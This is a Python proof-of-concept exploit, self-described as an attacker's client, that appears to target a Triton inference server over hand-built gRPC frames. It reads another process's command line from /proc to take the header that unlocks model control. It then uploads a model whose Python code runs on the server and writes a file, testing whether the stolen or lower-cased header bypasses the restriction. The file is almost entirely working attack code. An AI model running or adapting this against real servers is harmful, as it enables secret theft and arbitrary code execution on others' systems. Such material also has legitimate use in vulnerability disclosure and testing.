"""An attacker's gRPC client: one call with any header, written with the standard library only.

Usage: python3 raw_grpc.py PID HOST:PORT FILE. It reads the command line of process PID, as any user
can, takes from it what restricts model control, and tries to load a model whose code writes FILE.
Prints for each try whether the server sent a message ("answered") or not ("refused").
"""

import json
import re
import socket
import struct
import sys

SERVICE = "/inference.GRPCInferenceService/"
SETTINGS, HEADERS, DATA, CONTINUATION = 4, 1, 0, 9
END_STREAM, END_HEADERS = 1, 4
FRAME_BYTES = 16_384


def number(value, prefix_bits):
    "Return an integer in HPACK's form (RFC 7541, 5.1)."
    most = 2**prefix_bits - 1
    if value < most:
        return bytes([value])
    out, value = [most], value - most
    while value >= 128:
        out.append(value % 128 + 128)
        value //= 128
    return bytes([*out, value])


def header_block(headers):
    "Return headers as literals without an index (RFC 7541, 6.2.2)."
    out = b""
    for name, value in headers:
        out += b"\0"
        for text in (name.encode(), value.encode()):
            out += number(len(text), 7) + text
    return out


def frame(kind, flags, stream, payload=b""):
    "Return a frame (RFC 9113, 4.1)."
    return (
        len(payload).to_bytes(3, "big") + bytes([kind, flags]) + struct.pack(">I", stream) + payload
    )


def call(address, method, message, headers=(), seconds=5):
    "Return whether a call was answered with a message."
    host, port = address.split(":")
    block = header_block(
        [
            (":method", "POST"),
            (":scheme", "http"),
            (":path", SERVICE + method),
            (":authority", address),
            ("content-type", "application/grpc"),
            ("te", "trailers"),
            *headers,
        ]
    )
    parts = [block[i : i + FRAME_BYTES] for i in range(0, len(block), FRAME_BYTES)]
    out = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0)
    for i, part in enumerate(parts):
        flags = END_HEADERS if i == len(parts) - 1 else 0
        out += frame(CONTINUATION if i else HEADERS, flags, 1, part)
    out += frame(DATA, END_STREAM, 1, struct.pack(">BI", 0, len(message)) + message)
    with socket.create_connection((host, int(port)), timeout=seconds) as connection:
        connection.sendall(out)
        stream = connection.makefile("rb")
        try:
            while head := stream.read(9):
                size, kind, flags = int.from_bytes(head[:3], "big"), head[3], head[4]
                stream.read(size)
                number_of_stream = int.from_bytes(head[5:9], "big")
                if kind == DATA and number_of_stream == 1:
                    return True
                if number_of_stream == 1 and flags & END_STREAM:
                    return False
        except OSError:
            pass
    return False


def field(tag, payload):
    "Return a field of a protobuf message with a length."
    size, out = len(payload), b""
    while size >= 128:
        out += bytes([size % 128 + 128])
        size //= 128
    return bytes([tag << 3 | 2]) + out + bytes([size]) + payload


def load_request(model, file):
    "Return a RepositoryModelLoadRequest with a model of our own, whose code writes a file."
    code = f"""
open({file!r}, "w").write("code of another user has run")
class TritonPythonModel:
    def execute(self, requests): return []
"""
    config = dict(
        name=model,
        backend="python",
        max_batch_size=0,
        input=[dict(name="x", data_type="TYPE_INT32", dims=[1])],
        output=[dict(name="y", data_type="TYPE_INT32", dims=[1])],
        instance_group=[dict(kind="KIND_CPU", count=1)],
    )
    # ModelRepositoryParameter: string_param is field 3, bytes_param is field 4
    parameters = (
        ("config", field(3, json.dumps(config).encode())),
        ("file:1/model.py", field(4, code.encode())),
    )
    out = field(2, model.encode())
    for name, value in parameters:
        out += field(3, field(1, name.encode()) + field(2, value))
    return out


def restriction(pid):
    "Return name and value of the header that opens gRPC's model control, from a command line."
    with open(f"/proc/{pid}/cmdline") as file:
        words = file.read().split("\0")
    found = re.search(r"grpc-restricted-protocol=[a-z,-]+:([^=]+)=(.*)", "\n".join(words))
    return found.groups()


def main():
    pid, address, file = sys.argv[1:]
    name, value = restriction(pid)
    header = f"triton-grpc-protocol-{name}"
    message = load_request("proof", file)
    tries = {
        "live": ("ServerLive", b"", ()),
        "load without a key": ("RepositoryModelLoad", message, ()),
        "load with the header of ps": ("RepositoryModelLoad", message, ((header, value),)),
        "load with it in small letters": (
            "RepositoryModelLoad",
            message,
            ((header.lower(), value),),
        ),
    }
    for name, (method, content, headers) in tries.items():
        is_answered = call(address, method, content, headers)
        print(f"{name}: {'answered' if is_answered else 'refused'}")


if __name__ == "__main__":
    main()
